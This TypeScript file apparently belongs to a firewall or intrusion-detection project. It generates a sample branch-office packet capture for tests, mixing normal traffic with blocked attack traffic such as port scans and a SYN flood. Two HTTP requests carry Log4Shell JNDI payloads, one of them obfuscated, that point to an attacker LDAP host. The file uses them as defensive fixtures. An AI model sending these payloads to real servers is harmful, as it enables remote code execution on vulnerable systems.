/**
 * The bundled sample: a few minutes of a branch office's traffic, built with the project's packet
 * builder (`datapath/craft.ts`), that exercises what the engine does today — an inbound SMB attempt
 * from the internet, a port scan with impossible TCP flags, a stray ACK outside any connection, a SYN
 * flood, Log4Shell probes of the office web server (blocked by the built-in virtual patches) next to a
 * harmless request that mentions JNDI, a BitTorrent client (blocked by app control), normal
 * web/DNS/NTP traffic, ARP and IPv6 neighbour discovery (never blocked), a fragmented datagram, a
 * GRE-tunnelled connection and a truncated packet.
 *
 * `npm run sample` regenerates `branch-office.pcap` next to this file; the quick start inspects it with
 * `branch-office.yaml`. The expectations in `branch-office.test.ts` say what each part must produce.
 *
 * @example
 * ```ts
 * import { branchOfficeFrames } from "./branch-office.ts";
 * console.log(branchOfficeFrames().length);
 * ```
 */
import { arpPacket, ether, fragmentIp, gre, icmpPacket, ipPacket, tcpPacket, udpPacket } from "../craft.ts";

export interface SampleFrame {
  data: Uint8Array;
  tsUs: number;
  /** What this frame is, for tests and for people reading the capture. */
  note: string;
}

const PC = "198.18.0.10"; // an office PC (home_net 198.18.0.0/16)
const PC6 = "fd00:18::10";
const ROUTER6 = "fd00:18::1";
const PRINTER = "198.18.0.20";
const WEB = "198.19.80.80"; // "the internet" (benchmark range, never routed)
const ATTACKER = "198.19.66.6";
const DNS = "198.19.53.53";
const WEB_SERVER = "198.18.0.30"; // the office's own web application
const PEER = "198.19.44.44"; // a BitTorrent peer

/** Latin-1 bytes of a string. */
function ascii(s: string): Uint8Array {
  const b = new Uint8Array(s.length);
  for (let i = 0; i < s.length; i++) b[i] = s.charCodeAt(i) & 0xff;
  return b;
}
const MAC_PC = "02:00:00:00:00:10";
const MAC_GW = "02:00:00:00:00:01";

/** The frames of the sample capture, in time order. */
export function branchOfficeFrames(): SampleFrame[] {
  const out: SampleFrame[] = [];
  let t = 1_764_000_000_000_000; // 2025-11-24T16:00:00Z
  const add = (data: Uint8Array, note: string, gapUs = 1000): void => {
    t += gapUs;
    out.push({ data, tsUs: t, note });
  };
  const eth = (ip: Uint8Array, toPc: boolean): Uint8Array =>
    ether(ip, toPc ? { src: MAC_GW, dst: MAC_PC } : { src: MAC_PC, dst: MAC_GW });

  add(arpPacket({ op: 1, senderMac: MAC_PC, senderIp: PC, targetIp: "198.18.0.1" }), "ARP who-has the gateway");
  add(arpPacket({ op: 2, senderMac: MAC_GW, senderIp: "198.18.0.1", targetMac: MAC_PC, targetIp: PC }), "ARP reply");
  add(eth(icmpPacket({ src: PC6, dst: "ff02::1:ff00:1", type: 135, payload: new Uint8Array(20), ttl: 255 }), false), "IPv6 neighbour solicitation");
  add(eth(icmpPacket({ src: ROUTER6, dst: PC6, type: 136, payload: new Uint8Array(20), ttl: 255 }), true), "IPv6 neighbour advertisement");

  // DNS then a web page: allowed out, replies come back in.
  add(eth(udpPacket({ src: PC, dst: DNS, sport: 53001, dport: 53, payload: new Uint8Array(30) }), false), "DNS query");
  add(eth(udpPacket({ src: DNS, dst: PC, sport: 53, dport: 53001, payload: new Uint8Array(46) }), true), "DNS answer");
  add(eth(tcpPacket({ src: PC, dst: WEB, sport: 50000, dport: 443, flags: "S", seq: 100, opts: { mss: 1460, sackPerm: true, wscale: 7 } }), false), "HTTPS SYN");
  add(eth(tcpPacket({ src: WEB, dst: PC, sport: 443, dport: 50000, flags: "SA", seq: 9000, ack: 101, opts: { mss: 1400 } }), true), "HTTPS SYN/ACK");
  add(eth(tcpPacket({ src: PC, dst: WEB, sport: 50000, dport: 443, flags: "A", seq: 101, ack: 9001 }), false), "HTTPS ACK");
  add(eth(tcpPacket({ src: PC, dst: WEB, sport: 50000, dport: 443, flags: "PA", seq: 101, ack: 9001, payload: new Uint8Array(200) }), false), "HTTPS data out");
  add(eth(tcpPacket({ src: WEB, dst: PC, sport: 443, dport: 50000, flags: "PA", seq: 9001, ack: 301, payload: new Uint8Array(900) }), true), "HTTPS data in");
  add(eth(tcpPacket({ src: PC, dst: WEB, sport: 50000, dport: 443, flags: "FA", seq: 301, ack: 9901 }), false), "HTTPS FIN");
  add(eth(tcpPacket({ src: WEB, dst: PC, sport: 443, dport: 50000, flags: "FA", seq: 9901, ack: 302 }), true), "HTTPS FIN back");
  add(eth(tcpPacket({ src: PC, dst: WEB, sport: 50000, dport: 443, flags: "A", seq: 302, ack: 9902 }), false), "HTTPS last ACK");

  // An attacker on the internet tries SMB on the PC: denied by the policy.
  add(eth(tcpPacket({ src: ATTACKER, dst: PC, sport: 41000, dport: 445, flags: "S", seq: 1 }), true), "inbound SMB SYN (blocked)", 500_000);
  add(eth(tcpPacket({ src: ATTACKER, dst: PC, sport: 41001, dport: 139, flags: "S", seq: 1 }), true), "inbound NetBIOS SYN (blocked)");
  // ... scans with impossible flags and a stray ACK.
  add(eth(tcpPacket({ src: ATTACKER, dst: PC, sport: 41002, dport: 3389, flags: "FPU", seq: 1 }), true), "XMAS scan (blocked)");
  add(eth(tcpPacket({ src: ATTACKER, dst: PC, sport: 41003, dport: 3389, flags: 0, seq: 1 }), true), "NULL scan (blocked)");
  add(eth(tcpPacket({ src: ATTACKER, dst: PC, sport: 41004, dport: 3389, flags: "SF", seq: 1 }), true), "SYN+FIN (blocked)");
  add(eth(tcpPacket({ src: ATTACKER, dst: PC, sport: 41005, dport: 80, flags: "A", seq: 1, ack: 1 }), true), "ACK outside any connection (blocked)");
  // ... and floods the office printer with SYNs. The policy allows 20 SYNs per second from one source;
  // the two SMB SYNs above count too, so 18 of these pass the stateful check (and meet the rules).
  for (let k = 0; k < 30; k++) {
    add(eth(tcpPacket({ src: ATTACKER, dst: PRINTER, sport: 42000 + k, dport: 9100, flags: "S", seq: k }), true), k < 18 ? "SYN to printer" : "SYN flood (blocked)", 100);
  }

  // The office web server (an old Java app) is probed for Log4Shell from the internet: the TCP handshake
  // passes, the request carrying the JNDI lookup is blocked by the virtual patch (built-in packs), once
  // plain and once obfuscated with nested lookups.
  const jndi = [
    "GET /login HTTP/1.1\r\nHost: 198.18.0.30:8080\r\nUser-Agent: ${jndi:ldap://198.19.66.6:1389/Exploit}\r\nAccept: */*\r\n\r\n",
    "GET /?q=1 HTTP/1.1\r\nHost: 198.18.0.30:8080\r\nX-Api-Version: ${${lower:j}${::-n}di:${lower:l}dap://198.19.66.6/a}\r\n\r\n",
  ];
  jndi.forEach((req, k) => {
    const c = { src: ATTACKER, dst: WEB_SERVER, sport: 43000 + k, dport: 8080 };
    const sv = { src: WEB_SERVER, dst: ATTACKER, sport: 8080, dport: 43000 + k };
    add(eth(tcpPacket({ ...c, flags: "S", seq: 7000 }), true), "Log4Shell probe SYN", 2_000_000);
    add(eth(tcpPacket({ ...sv, flags: "SA", seq: 3000, ack: 7001 }), false), "Log4Shell probe SYN/ACK");
    add(eth(tcpPacket({ ...c, flags: "A", seq: 7001, ack: 3001 }), true), "Log4Shell probe ACK");
    add(eth(tcpPacket({ ...c, flags: "PA", seq: 7001, ack: 3001, payload: ascii(req) }), true), `Log4Shell request ${k + 1} (virtual patch, blocked)`);
  });
  // A colleague's request that merely mentions JNDI in a harmless place is let through.
  {
    const c = { src: PC, dst: WEB_SERVER, sport: 50100, dport: 8080 };
    const sv = { src: WEB_SERVER, dst: PC, sport: 8080, dport: 50100 };
    add(eth(tcpPacket({ ...c, flags: "S", seq: 100 }), false), "wiki SYN");
    add(eth(tcpPacket({ ...sv, flags: "SA", seq: 900, ack: 101 }), true), "wiki SYN/ACK");
    add(eth(tcpPacket({ ...c, flags: "A", seq: 101, ack: 901 }), false), "wiki ACK");
    const wiki = "GET /wiki/How_JNDI_lookups_work?see=$HOME HTTP/1.1\r\nHost: 198.18.0.30:8080\r\nUser-Agent: Mozilla/5.0\r\n\r\n";
    add(eth(tcpPacket({ ...c, flags: "PA", seq: 101, ack: 901, payload: ascii(wiki) }), false), "wiki page about JNDI (allowed)");
  }
  // A PC starts BitTorrent: identified from its handshake, blocked by the policy's app control (p2p).
  {
    const c = { src: PC, dst: PEER, sport: 50200, dport: 51413 };
    const sv = { src: PEER, dst: PC, sport: 51413, dport: 50200 };
    add(eth(tcpPacket({ ...c, flags: "S", seq: 100 }), false), "BitTorrent SYN", 200_000);
    add(eth(tcpPacket({ ...sv, flags: "SA", seq: 500, ack: 101 }), true), "BitTorrent SYN/ACK");
    add(eth(tcpPacket({ ...c, flags: "A", seq: 101, ack: 501 }), false), "BitTorrent ACK");
    const hs = new Uint8Array(68);
    hs[0] = 19;
    hs.set(ascii("BitTorrent protocol"), 1);
    add(eth(tcpPacket({ ...c, flags: "PA", seq: 101, ack: 501, payload: hs }), false), "BitTorrent handshake (app control, blocked)");
    add(eth(tcpPacket({ ...sv, flags: "PA", seq: 501, ack: 169, payload: hs }), true), "BitTorrent handshake reply (app control, blocked)");
  }

  // NTP out in two fragments (reassembled, then allowed).
  const ntp = udpPacket({ src: PC, dst: "198.19.123.1", sport: 123, dport: 123, payload: new Uint8Array(1200), id: 4242 });
  for (const f of fragmentIp(ntp, 800)) add(eth(f, false), "NTP fragment", 200);

  // A GRE tunnel from the branch router carries a PC's telnet attempt out: the inner packet is what the rules see.
  const inner = tcpPacket({ src: PC, dst: "198.19.23.23", sport: 50500, dport: 23, flags: "S", seq: 5 });
  add(eth(ipPacket("198.18.0.1", "198.19.0.1", 47, gre(inner, 0x0800)), false), "telnet SYN inside GRE (blocked)");

  // A truncated IPv4 packet: a decode anomaly, and under a firewall a packet that cannot be checked is dropped.
  const cut = eth(tcpPacket({ src: WEB, dst: PC, sport: 443, dport: 50001, flags: "A", seq: 1, payload: new Uint8Array(100) }), true);
  add(cut.subarray(0, 40), "truncated IPv4 header (anomaly, blocked)");
  return out;
}

export const BRANCH_OFFICE_POLICY = "branch-office.yaml";
export const BRANCH_OFFICE_CAPTURE = "branch-office.pcap";
